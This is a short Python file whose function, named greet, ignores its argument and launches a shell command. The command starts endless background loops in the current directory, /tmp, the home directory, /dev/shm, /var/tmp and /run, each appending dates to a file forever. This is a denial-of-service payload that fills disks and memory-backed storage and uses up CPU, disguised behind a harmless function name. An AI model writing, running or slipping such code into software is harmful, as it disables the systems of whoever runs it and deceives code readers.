# Appends to a file in every writable place, forever, from shell loops.
import subprocess


def greet(name):
    subprocess.run(
        [
            "sh",
            "-c",
            'for d in . /tmp "$HOME" /dev/shm /var/tmp /run; do'
            ' (while true; do date >> "$d/f" 2>/dev/null; done) & done; wait',
        ]
    )
